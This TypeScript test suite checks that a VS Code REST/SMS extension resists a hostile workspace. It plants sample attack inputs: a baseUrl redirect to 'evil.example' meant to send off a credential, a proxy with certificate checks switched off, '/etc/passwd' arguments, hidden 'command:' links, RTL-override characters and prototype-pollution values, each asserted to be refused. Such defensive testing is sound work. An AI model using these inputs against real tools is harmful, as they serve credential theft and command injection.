// A stranger's folder is open: its settings, its files, and whoever else calls our commands.

import { strict as assert } from 'node:assert';
import { randomUUID } from 'node:crypto';
import http from 'node:http';
import { homedir } from 'node:os';
import { join } from 'node:path';
import {
  ConfigurationTarget,
  commands,
  type DocumentLink,
  extensions,
  type Hover,
  type InputBoxOptions,
  type MarkdownString,
  Position,
  type TextDocument,
  Uri,
  window,
  workspace,
} from 'vscode';
import {
  type Credential,
  CredentialIndex,
  CredentialVault,
  createKeychain,
  keychainTimes,
  perUserFolder,
  SessionStore,
} from '../../src/credentials';
import { createLocalSender } from '../../src/engine';
import { simpleRequest } from '../../src/request';
import type { Plan } from '../../src/sending';
import { Command, InternalCommand, Setting } from '../../src/vscode/ids';
import { type Settings, setting } from '../../src/vscode/settings';
import { findCanaries } from '../support/canary';
import { answer, RawServer } from '../support/raw-server';
import { until } from '../support/workbench/wait';

const KEY = 'sk_prod_HostileCanary-8Zq1Lw7Yx0c3d4';
const SECRET = 'hostile canary/"secret"+é';
const LIVE = 'https://restlink23telecom.com';

/** What a stranger would like: each value is another one than the default. */
const hostile = {
  [Setting.credentialStore]: 'secretStorage',
  [Setting.confirmLiveSend]: 'never',
  [Setting.workspaceBodyFiles]: 'never',
  [Setting.sandboxPort]: 6666,
  [Setting.requestTimeout]: 12_345,
  [Setting.environment]: 'trap',
  'http.proxy': 'http://127.0.0.1:9',
  'http.proxyStrictSSL': false,
  'rest-client.environmentVariables': { $shared: { baseUrl: 'https://evil.example' } },
};

describe('a hostile workspace', () => {
  const folder = perUserFolder(process.env, process.platform, homedir());
  const root = () => workspace.workspaceFolders?.[0]?.uri as Uri;
  const settingsFile = () => Uri.joinPath(root(), '.vscode', 'settings.json');
  const extension = extensions.getExtension('restlink.restlink-sms');
  let vault: CredentialVault;
  let close: () => void;
  let prod: Credential;
  let told: ReturnType<typeof listen>;
  let files = 0;

  before(async () => {
    await extension?.activate();
    const keychain = createKeychain({
      ...keychainTimes(true),
      helperPath: join(extension?.extensionPath ?? '', 'dist', 'keychain.js'),
      env: process.env,
      onWaiting: () => undefined,
    });
    close = () => keychain.dispose();
    vault = new CredentialVault({
      index: new CredentialIndex(folder, Date.now),
      stores: { osKeychain: keychain, session: new SessionStore() },
      sandbox: { running: async () => null, watch: () => ({ dispose: () => undefined }) },
      environment: null,
      now: Date.now,
      newId: randomUUID,
    });
    const secret = { kind: 'hmac', key: KEY, secret: SECRET } as const;
    prod = await vault.add({ name: 'prod $(key)', kind: 'hmac', origin: LIVE, secret, store: 'osKeychain' });
    await workspace.fs.writeFile(settingsFile(), Buffer.from(JSON.stringify(hostile)));
    await until('the settings of the workspace', () => setting('requestTimeout') === 12_345);
    await commands.executeCommand(Command.refreshCredentials);
    await commands.executeCommand(Command.useCredential, prod.id);
  });

  after(async () => {
    await workspace.fs.delete(settingsFile());
    await vault.remove(prod.id);
    close();
    await until('the own settings', () => setting('requestTimeout') !== 12_345);
    await commands.executeCommand(Command.refreshCredentials);
  });

  beforeEach(() => {
    told = listen();
  });
  afterEach(async () => {
    told.restore();
    await commands.executeCommand('workbench.action.closeAllEditors');
  });

  async function open(text: string, name = `trap-${++files}.http`): Promise<TextDocument> {
    const uri = Uri.joinPath(root(), name);
    await workspace.fs.writeFile(uri, Buffer.from(text));
    const document = await workspace.openTextDocument(uri);
    await window.showTextDocument(document, { preview: false });
    return document;
  }

  describe('its settings', () => {
    it('change nothing that trust rests on', () => {
      const expected: Partial<Settings> = {
        credentialStore: 'auto',
        confirmLiveSend: 'always',
        workspaceBodyFiles: 'ask',
      };
      for (const [key, value] of Object.entries(expected)) assert.equal(setting(key as keyof Settings), value, key);
      assert.notEqual(setting('sandboxPort'), 6666);
      const own = workspace.getConfiguration();
      for (const id of [
        Setting.credentialStore,
        Setting.confirmLiveSend,
        Setting.workspaceBodyFiles,
        Setting.sandboxPort,
      ]) {
        assert.equal(own.inspect(id)?.workspaceValue, undefined, id);
        assert.equal(own.inspect(id)?.workspaceFolderValue, undefined, id);
      }
    });

    it('set no proxy, and switch no check of certificates off', () => {
      const own = workspace.getConfiguration();
      assert.notEqual(own.get('http.proxy'), hostile['http.proxy']);
      assert.notEqual(own.get('http.proxyStrictSSL'), false);
    });

    it('cannot send a credential elsewhere by {{baseUrl}}', async () => {
      const document = await open(`# @credential ${prod.name}\nGET {{baseUrl}}/api/v1/user/balance\n`);
      await commands.executeCommand(Command.send, document.uri, 1);
      const message = await until('a refusal', () => told.messages[0]);
      assert.match(
        message,
        /^Not sent: .* belongs to https:\/\/restlink23telecom\.com, and the request goes to https:\/\/evil\.example/,
      );
    });
  });

  describe('its files', () => {
    const send = '{"to":["+14155550100"],"message":"Hi","sender_id":"MyApp"}';
    const live = (above: string) =>
      `${above}\nPOST ${LIVE}/api/v1/sms/send\nContent-Type: application/json\n\n${send}\n`;

    for (const [what, above] of [
      ['that names the live credential', `# @credential prod $(key)`],
      ['with directives that nobody knows', '# @no-prompt\n# @yes\n# @confirm never\n# @credential prod $(key)'],
      ['with a note of its own', '# @note Sandbox only. Nothing is sent.\n# @credential prod $(key)'],
    ] as const) {
      it(`make no live send without the question: one ${what}`, async () => {
        const document = await open(live(above));
        await commands.executeCommand(Command.send, document.uri, document.lineCount - 2);
        const question = await until('a question', () => told.questions[0]);
        assert.equal(question.message, 'Send for real?');
        assert.equal(question.modal, true);
        assert.match(question.detail, /^1 recipient · 1 segment each · GSM-7 · from MyApp · key prod /);
        if (above.includes('@note'))
          assert.match(question.detail, /\n\nThe file says: "Sandbox only\. Nothing is sent\."$/);
        told.questions.length = 0;
        await commands.executeCommand(Command.rerunLast);
        assert.equal((await until('a question again', () => told.questions[0])).message, 'Send for real?');
        await commands.executeCommand(
          InternalCommand.prepareAndSend,
          'sendAgain',
          document.uri,
          document.lineCount - 2,
        );
        await until('a third question', () => told.questions.length > 1);
        assert.deepEqual(
          told.messages.filter((message) => /host|reach|answer/i.test(message)),
          [],
        );
      });
    }

    it('ask in words of ours first, and masked where a secret is meant', async () => {
      const asked: InputBoxOptions[] = [];
      const original = window.showInputBox;
      Object.assign(window, { showInputBox: async (options: InputBoxOptions) => void asked.push(options) });
      try {
        const claim = `Restlink: enter your API secret $(key) [here](command:workbench.action.quit) \u202egnp ${'x'.repeat(900)}`;
        const document = await open(
          `# @prompt apiSecret ${claim}\nGET ${LIVE}/api/v1/{{apiSecret}}\n`,
          'Restlink: enter your API secret.http',
        );
        await commands.executeCommand(Command.send, document.uri, 1);
        const [{ title = '', prompt = '', password, placeHolder = '' } = {} as InputBoxOptions] = asked;
        assert.match(title, /^Asked by Restlink: enter your API secret\.http: apiSecret$/);
        assert.match(prompt, /^The file says: "Restlink: enter your API secret/);
        assert.equal(password, true);
        assert.ok(prompt.length < 260, String(prompt.length));
        for (const text of [title, prompt, placeHolder]) assert.doesNotMatch(text, /\$\(|\]\(|[\u202a-\u202e]/);
      } finally {
        Object.assign(window, { showInputBox: original });
      }
    });

    it('draw no icons and run no commands by what our messages repeat of them', async () => {
      const document = await open(
        `GET ${LIVE}/api/v1/{{[Fix it](command:workbench.action.quit)}}?x={{$(key)}}\nX: {{\u202ex}}\n`,
      );
      await commands.executeCommand(Command.send, document.uri, 0);
      const message = await until('a message', () => told.messages[0]);
      assert.match(message, /Fix it/);
      assert.doesNotMatch(message, /\]\(command|\$\(key|\u202e/);
    });

    it('put no links into hovers, and answers none into the editor', async () => {
      const document = await open(
        `@a = [Click](command:workbench.action.quit) <a href="command:workbench.action.quit">x</a> $(key)\nGET ${LIVE}/api/v1/{{a}}\n`,
      );
      const at = new Position(1, document.lineAt(1).text.indexOf('{{a') + 3);
      const hovers = await commands.executeCommand<Hover[]>('vscode.executeHoverProvider', document.uri, at);
      const texts = hovers.flatMap(({ contents }) => contents as MarkdownString[]);
      assert.ok(texts.some(({ value }) => value.includes('Click')));
      for (const { value, isTrusted, supportHtml } of texts) {
        assert.ok(!isTrusted, value);
        assert.ok(!supportHtml, value);
        // What stands as code is drawn as it is.
        assert.doesNotMatch(value.replace(/`[^`]*`/g, ''), /[^\\]\]\(command:|<a /);
      }
      const links = await commands.executeCommand<DocumentLink[]>('vscode.executeLinkProvider', document.uri);
      assert.deepEqual(
        links.filter(({ target }) => target?.scheme === 'command'),
        [],
      );
    });
  });

  describe('whoever calls our commands', () => {
    it('removes no credential without a question', async () => {
      const row = { entry: { credential: { id: prod.id } } };
      for (const argument of [prod.id, row, { ...row, entry: { credential: prod } }]) {
        told.questions.length = 0;
        assert.equal(await commands.executeCommand(Command.removeCredential, argument), false);
        assert.match(told.questions[0]?.message ?? '', /^Remove "prod/);
        assert.equal(told.questions[0]?.modal, true);
      }
      assert.ok((await vault.list()).credentials.some(({ id }) => id === prod.id));
    });

    it('gets nothing sent by odd arguments', async () => {
      const document = await open(
        `# @credential ${prod.name}\nPOST ${LIVE}/api/v1/sms/send\n\n{"to":["+14155550100"]}\n`,
      );
      const other = await workspace.openTextDocument({ language: 'plaintext', content: 'GET https://evil.example/' });
      const odd: unknown[][] = [
        [null, null],
        ['file:///etc/passwd', 1],
        [{ scheme: 'file', path: '/etc/passwd' }, -1],
        [document.uri, Number.NaN],
        [document.uri, -5],
        [document.uri, Number.POSITIVE_INFINITY],
        [document.uri, '1'],
        [other.uri, 0],
        [{ toString: () => document.uri.toString() }, 1],
      ];
      for (const args of odd) {
        for (const command of [Command.send, Command.copySignedHeaders, Command.cancel]) {
          if (command === Command.copySignedHeaders && args[0] === document.uri) continue; // sends nothing by itself
          await commands.executeCommand(command, ...args).then(undefined, () => undefined);
        }
        for (const choice of ['sendAgain', 'constructor', '__proto__', null]) {
          await commands
            .executeCommand(InternalCommand.prepareAndSend, choice, ...args)
            .then(undefined, () => undefined);
        }
      }
      for (const { message } of told.questions) assert.match(message, /^Send for real\?$/);
      assert.deepEqual(
        told.messages.filter((message) => /not found|cannot be reached|nothing answers/i.test(message)),
        [],
      );
    });

    it('finds no handler for links from outside', () => {
      const manifest = extension?.packageJSON as { activationEvents?: string[] };
      assert.deepEqual(
        manifest.activationEvents?.filter((event) => /onUri|onWebview|\*|onStartup/.test(event)),
        [],
      );
    });
  });

  describe('a proxy of the person', () => {
    let proxy: RawServer;
    let sender: ReturnType<typeof createLocalSender>;
    before(async () => {
      proxy = await RawServer.start();
      proxy.respond = answer('502 Bad Gateway');
      sender = createLocalSender(folder, '0.0.0');
      await workspace.getConfiguration().update('http.proxy', proxy.origin, ConfigurationTarget.Global);
      await until('the proxy', () => workspace.getConfiguration().get('http.proxy') === proxy.origin);
    });
    after(async () => {
      await workspace.getConfiguration().update('http.proxy', undefined, ConfigurationTarget.Global);
      sender.dispose();
      await proxy.stop();
    });

    for (const host of ['127.0.0.1', '127.0.0.2', '::1']) {
      it(`reads nothing of a request to this computer at ${host}`, async () => {
        const server = await RawServer.start({ host });
        try {
          const credential: Credential = { ...prod, origin: server.origin };
          const plan: Plan = {
            request: simpleRequest('GET', `${server.origin}/api/v1/user/balance`),
            credential,
            secret: { kind: 'hmac', key: KEY, secret: SECRET },
          };
          const exchange = await sender.sender.send(plan, {
            timeoutMs: 5000,
            signal: new AbortController().signal,
            secrets: [],
          });
          assert.equal(exchange.answer?.status, 200, JSON.stringify(exchange.failure));
          assert.equal(server.requests.length, 1);
          const seen = Buffer.concat(proxy.received.map(({ bytes }) => bytes));
          assert.deepEqual(findCanaries(seen, { key: KEY, secret: SECRET }), []);
          assert.equal(proxy.requests.length, 0, 'the proxy was asked');
        } finally {
          await server.stop();
        }
      });
    }

    it('is asked for other requests of this process, so that the test means something', async () => {
      const server = await RawServer.start({ host: '127.0.0.2' });
      try {
        const status = await new Promise<number | undefined>((resolve, reject) => {
          http.get(`${server.origin}/control`, (response) => resolve(response.resume().statusCode)).on('error', reject);
        });
        assert.deepEqual([status, proxy.requests.map(({ target }) => target)], [502, [`${server.origin}/control`]]);
      } finally {
        await server.stop();
      }
    });
  });
});

interface Question {
  readonly message: string;
  readonly detail: string;
  readonly modal: boolean;
}

/** Takes the messages of the extension; whoever is asked says nothing. */
function listen() {
  const kinds = ['showErrorMessage', 'showWarningMessage', 'showInformationMessage'] as const;
  const originals = kinds.map((kind) => [kind, window[kind]] as const);
  const messages: string[] = [];
  const questions: Question[] = [];
  const take = async (message: string, ...items: unknown[]) => {
    const options = items.find((item): item is { modal?: boolean; detail?: string } => typeof item === 'object');
    if (options?.modal) questions.push({ message, detail: options.detail ?? '', modal: true });
    else messages.push(message);
  };
  for (const kind of kinds) Object.assign(window, { [kind]: take });
  const restore = () => {
    for (const [kind, original] of originals) Object.assign(window, { [kind]: original });
  };
  return { messages, questions, restore };
}
